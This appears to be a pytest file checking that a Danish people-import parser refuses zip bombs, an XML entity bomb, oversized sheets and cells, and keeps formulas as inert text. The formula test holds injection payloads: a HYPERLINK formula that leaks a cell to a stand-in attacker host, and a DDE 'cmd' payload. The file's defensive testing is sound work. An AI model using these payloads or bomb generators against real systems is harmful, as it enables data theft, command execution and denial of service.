"""Hostile and broken files are refused before they are parsed: in seconds, in bounded memory, with a
Danish message that says what was found and where. Formulas are kept as text, never evaluated.

Each file of the corpus is generated here. The time and the peak memory of `read_people_file` are
measured around the call (tracemalloc traces every allocation Python makes, expat's and zlib's buffers
included); the limits are the issue's: 2 seconds and 200 MB.
"""

from __future__ import annotations

import base64
import io
import os
import time
import tracemalloc
import zipfile
from collections.abc import Callable, Iterator

import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from fagdigital.orgs.people_import import ParseResult, limits, read_people_file

HEADER = ["medarbejdernummer", "navn", "e-mail", "enhed", "stillingsbetegnelse", "leder"]
SECONDS = 2.0
PEAK_BYTES = 200 * 1024 * 1024


def measured(data: bytes, filename: str) -> tuple[ParseResult, float, int]:
    """The result, the seconds it took, and the peak memory allocated while reading.

    Time and memory are measured in two runs: tracing every allocation slows Python down several
    times, which is not what a user waits for.
    """
    started = time.perf_counter()
    result = read_people_file(data=data, filename=filename)
    seconds = time.perf_counter() - started
    tracemalloc.start()
    try:
        again = read_people_file(data=data, filename=filename)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert [p.code for p in again.problems] == [p.code for p in result.problems]
    return result, seconds, peak


@pytest.fixture(autouse=True)
def _warm() -> None:
    """Import what reading a spreadsheet imports before anything is timed (a worker has it loaded)."""
    read_people_file(data=workbook_bytes(one_person), filename="varm.xlsx")


def refused(data: bytes, filename: str, code: str) -> ParseResult:
    result, seconds, peak = measured(data, filename)
    codes = [problem.code for problem in result.errors]
    assert codes == [code], [problem.message for problem in result.problems]
    assert not result.rows
    assert seconds < SECONDS, f"{filename}: refused after {seconds:.2f} s"
    assert peak < PEAK_BYTES, f"{filename}: peak {peak / 1e6:.0f} MB"
    return result


def workbook_bytes(fill: Callable[[Worksheet], None]) -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(HEADER)
    fill(sheet)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def one_person(sheet: Worksheet) -> None:
    sheet.append(["1", "Anne Andersen", "anne@kommune.dk", "Social og Sundhed", "Direktør", "ja"])


def replace_parts(data: bytes, parts: dict[str, Iterator[bytes] | bytes]) -> bytes:
    """The workbook with some parts replaced (or added), streamed so a huge part is never in memory."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename not in parts:
                target.writestr(info, source.read(info.filename))
        for name, content in parts.items():
            with target.open(name, "w", force_zip64=True) as stream:
                for chunk in [content] if isinstance(content, bytes) else content:
                    stream.write(chunk)
    return out.getvalue()


def sheet_xml(rows: Iterator[bytes], dimension: str = "A1:F2") -> Iterator[bytes]:
    yield (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<dimension ref="' + dimension.encode() + b'"/><sheetData>'
    )
    yield (
        b'<row r="1">'
        + b"".join(
            f'<c r="{letter}1" t="inlineStr"><is><t>{name}</t></is></c>'.encode()
            for letter, name in zip("ABCDEF", HEADER, strict=True)
        )
        + b"</row>"
    )
    yield from rows
    yield b"</sheetData></worksheet>"


SHEET = "xl/worksheets/sheet1.xml"
STRINGS = "xl/sharedStrings.xml"


# --- the corpus ---------------------------------------------------------------------------------------


def test_a_zip_bomb_is_refused_from_the_zip_directory_without_unpacking() -> None:
    def spaces() -> Iterator[bytes]:
        chunk = b" " * (1024 * 1024)
        yield from (chunk for _ in range(300))

    bomb = replace_parts(workbook_bytes(one_person), {SHEET: sheet_xml(spaces())})
    assert len(bomb) < 2 * 1024 * 1024
    result = refused(bomb, "bombe.xlsx", "zip_member_too_large")
    assert "xl/worksheets/sheet1.xml" in result.errors[0].message


def test_a_part_that_unpacks_a_thousand_times_is_refused_as_a_zip_bomb() -> None:
    def spaces() -> Iterator[bytes]:
        chunk = b" " * (1024 * 1024)
        yield from (chunk for _ in range(100))

    bomb = replace_parts(workbook_bytes(one_person), {SHEET: sheet_xml(spaces())})
    result = refused(bomb, "bombe.xlsx", "zip_ratio")
    assert "zip-bombe" in result.errors[0].problem


def test_a_single_cell_at_the_last_row_in_a_small_file_is_refused_at_once() -> None:
    def far(sheet: Worksheet) -> None:
        one_person(sheet)
        sheet["A1048576"] = "x"

    data = workbook_bytes(far)
    assert len(data) < 8 * 1024
    result = refused(data, "personer.xlsx", "sheet_dimension")
    assert "F1048576" in result.errors[0].problem or "A1048576" in result.errors[0].problem


def test_a_far_cell_behind_a_dimension_that_lies_is_refused_when_its_row_is_seen() -> None:
    rows = iter([b'<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row>'])
    data = replace_parts(workbook_bytes(one_person), {SHEET: sheet_xml(rows, dimension="A1:F2")})
    result = refused(data, "personer.xlsx", "sheet_row_bound")
    assert "1048576" in result.errors[0].problem


def test_a_cell_far_to_the_right_is_refused_with_its_reference() -> None:
    rows = iter([b'<row r="2"><c r="XFD2" t="inlineStr"><is><t>x</t></is></c></row>'])
    data = replace_parts(workbook_bytes(one_person), {SHEET: sheet_xml(rows, dimension="A1:F2")})
    result = refused(data, "personer.xlsx", "sheet_column_bound")
    problem = result.errors[0]
    assert problem.line == 2 and "XFD2" in problem.problem


def test_millions_of_empty_spreadsheet_rows_are_refused() -> None:
    def empty_rows() -> Iterator[bytes]:
        for start in range(2, 2_000_002, 10_000):
            yield b"".join(b'<row r="%d"/>' % number for number in range(start, start + 10_000))

    data = replace_parts(workbook_bytes(one_person), {SHEET: sheet_xml(empty_rows())})
    result = refused(data, "tomme.xlsx", "sheet_row_bound")
    assert f"{limits.MAX_LINES + 1}" in result.errors[0].problem.replace(".", "")


def test_millions_of_empty_csv_lines_are_refused() -> None:
    data = (
        "\ufeff" + ";".join(HEADER) + "\r\n" + "1;Anne;;Enhed;Leder;ja\r\n" + ";;;;;\r\n" * 2_000_000
    ).encode()
    refused(data, "tomme.csv", "file_too_many_lines")


def test_one_huge_shared_string_is_refused_without_being_held() -> None:
    text = base64.b64encode(os.urandom(3 * 1024 * 1024))  # 4 MB that do not compress
    strings = (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
        b"<si><t>" + text + b"</t></si></sst>"
    )
    data = replace_parts(workbook_bytes(one_person), {STRINGS: strings})
    refused(data, "tekst.xlsx", "shared_string_too_long")


def test_too_many_shared_strings_are_refused() -> None:
    def many() -> Iterator[bytes]:
        yield (
            b'<?xml version="1.0" encoding="UTF-8"?>'
            b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        )
        for start in range(0, 1_100_000, 10_000):
            yield b"".join(b"<si><t>%d</t></si>" % number for number in range(start, start + 10_000))
        yield b"</sst>"

    data = replace_parts(workbook_bytes(one_person), {STRINGS: many()})
    refused(data, "tekster.xlsx", "too_many_shared_strings")


def test_an_entity_bomb_is_refused_at_its_dtd() -> None:
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        + b"".join(
            b'<!ENTITY lol%d "%s">' % (level, b"&lol%d;" % (level - 1) * 10 if level > 1 else b"&lol;" * 10)
            for level in range(1, 10)
        )
        + b']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<sheetData><row><c t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>'
    )
    data = replace_parts(workbook_bytes(one_person), {SHEET: laughs})
    refused(data, "latter.xlsx", "xml_foreign")


def test_a_cell_longer_than_excel_allows_is_refused_with_its_reference() -> None:
    text = base64.b64encode(os.urandom(60_000))
    rows = iter([b'<row r="2"><c r="B2" t="inlineStr"><is><t>' + text + b"</t></is></c></row>"])
    data = replace_parts(workbook_bytes(one_person), {SHEET: sheet_xml(rows)})
    result = refused(data, "lang.xlsx", "cell_too_long")
    assert "B2" in result.errors[0].problem


@pytest.fixture
def fewer_cells(monkeypatch: pytest.MonkeyPatch) -> int:
    """A lower cell limit, so the file that breaks it is small (the check scales with the cells)."""
    monkeypatch.setattr(limits, "MAX_CELLS", 500_000)
    return 500_000


@pytest.mark.usefixtures("fewer_cells")
def test_too_many_cells_are_refused() -> None:
    def wide() -> Iterator[bytes]:
        for row in range(2, 6_002):
            yield (
                b'<row r="%d">' % row
                + b"".join(b"<c><v>%d</v></c>" % (row * i) for i in range(90))
                + b"</row>"
            )

    data = replace_parts(workbook_bytes(one_person), {SHEET: sheet_xml(wide())})
    refused(data, "celler.xlsx", "file_too_many_cells")


@pytest.mark.usefixtures("fewer_cells")
def test_too_many_referenced_cells_are_refused() -> None:
    def wide() -> Iterator[bytes]:
        columns = [f"{chr(64 + i // 26) if i >= 26 else ''}{chr(65 + i % 26)}" for i in range(90)]
        for row in range(2, 6_002):
            yield (
                b'<row r="%d">' % row
                + b"".join(b'<c r="%s%d"/>' % (column.encode(), row) for column in columns)
                + b"</row>"
            )

    data = replace_parts(workbook_bytes(one_person), {SHEET: sheet_xml(wide())})
    refused(data, "celler.xlsx", "file_too_many_cells")


def test_a_csv_line_with_thousands_of_columns_is_refused() -> None:
    data = (";".join(HEADER) + "\r\n" + "1;Anne;;Enhed;Leder;ja" + ";" * 10_000 + "\r\n").encode()
    result = refused(data, "bred.csv", "too_many_columns")
    assert result.errors[0].line == 2


def test_a_csv_line_of_megabytes_is_refused() -> None:
    data = (";".join(HEADER) + "\r\n" + "1;" + "A" * 5_000_000 + ";;Enhed;Leder;ja\r\n").encode()
    result = refused(data, "lang.csv", "line_too_long")
    assert result.errors[0].line == 2


def test_wrong_types_in_a_spreadsheet_are_read_as_text_and_checked_like_text() -> None:
    import datetime as dt  # noqa: PLC0415

    def wrong(sheet: Worksheet) -> None:
        sheet.append([1001, True, 12.5, "Enhed", dt.date(2024, 1, 2), dt.date(2024, 1, 2)])
        sheet.append([1002.0, "Bo", "bo@kommune.dk", 7, "Assistent", 3])

    result, seconds, peak = measured(workbook_bytes(wrong), "typer.xlsx")
    assert seconds < SECONDS and peak < PEAK_BYTES
    where = {(problem.line, problem.column, problem.code) for problem in result.errors}
    assert (2, "e-mail", "invalid_email") in where  # 12.5 is no address
    assert (2, "leder", "invalid_leader") in where  # a date is neither ja nor nej
    assert (3, "leder", "invalid_leader") in where  # 3 is neither
    assert not result.rows or not result.is_valid


def test_formulas_are_kept_as_their_text_and_never_evaluated() -> None:
    formulas = [
        '=HYPERLINK("http://angriber.example/?x="&A2,"Klik her")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "=1+1",
    ]

    def cells(sheet: Worksheet) -> None:
        for index, formula in enumerate(formulas, start=1):
            sheet.append([str(index), formula, "", "Enhed", "Assistent", "nej"])

    csv_data = (
        ";".join(HEADER)
        + "\r\n"
        + "".join(
            f'{index};"{formula.replace(chr(34), chr(34) * 2)}";;Enhed;Assistent;nej\r\n'
            for index, formula in enumerate(formulas, start=1)
        )
    ).encode()
    for data, filename in ((workbook_bytes(cells), "formler.xlsx"), (csv_data, "formler.csv")):
        result, seconds, peak = measured(data, filename)
        assert result.is_valid, [problem.message for problem in result.problems]
        assert seconds < SECONDS and peak < PEAK_BYTES
        assert [row.name for row in result.rows] == formulas
        warned = {problem.line for problem in result.warnings if problem.code.startswith("formula")}
        assert warned == {2, 3, 4, 5, 6}


def test_a_normal_spreadsheet_still_reads_every_row_when_its_dimension_is_too_small() -> None:
    rows = iter(
        f'<row r="{row}"><c r="A{row}" t="inlineStr"><is><t>{row}</t></is></c>'
        f'<c r="B{row}" t="inlineStr"><is><t>Person {row}</t></is></c>'
        f'<c r="D{row}" t="inlineStr"><is><t>Enhed</t></is></c>'
        f'<c r="E{row}" t="inlineStr"><is><t>Assistent</t></is></c></row>'.encode()
        for row in range(2, 12)
    )
    data = replace_parts(workbook_bytes(lambda sheet: None), {SHEET: sheet_xml(rows, dimension="A1:F2")})
    result = read_people_file(data=data, filename="personer.xlsx")
    assert result.is_valid, [problem.message for problem in result.problems]
    assert len(result.rows) == 10


@pytest.mark.parametrize(
    ("reference", "expected"),
    [("A1", (1, 1)), ("$GR$250000", (250000, 200)), ("XFD1048576", (1048576, 16384))],
)
def test_cell_references_are_split_into_row_and_column(reference: str, expected: tuple[int, int]) -> None:
    assert limits.split_reference(reference) == expected


def test_rows_and_cells_without_references_are_counted_one_after_the_other() -> None:
    def rows() -> Iterator[bytes]:
        yield b"<row>" + b"<c><v>1</v></c>" * 10 + b"</row>"  # row 2, columns A-J
        yield b"<row>" + b"<c><v>1</v></c>" * (limits.MAX_COLUMNS + 1) + b"</row>"  # row 3, too wide

    data = replace_parts(workbook_bytes(one_person), {SHEET: sheet_xml(rows())})
    result = refused(data, "uden-r.xlsx", "sheet_column_bound")
    assert result.errors[0].line == 3 and "GS3" in result.errors[0].problem


def test_a_cell_without_a_reference_after_a_far_referenced_one_is_out_of_bounds() -> None:
    rows = iter([b'<row r="2"><c r="GR2"><v>1</v></c><c><v>2</v></c></row>'])
    data = replace_parts(workbook_bytes(one_person), {SHEET: sheet_xml(rows)})
    result = refused(data, "blandet.xlsx", "sheet_column_bound")
    assert "GS2" in result.errors[0].problem
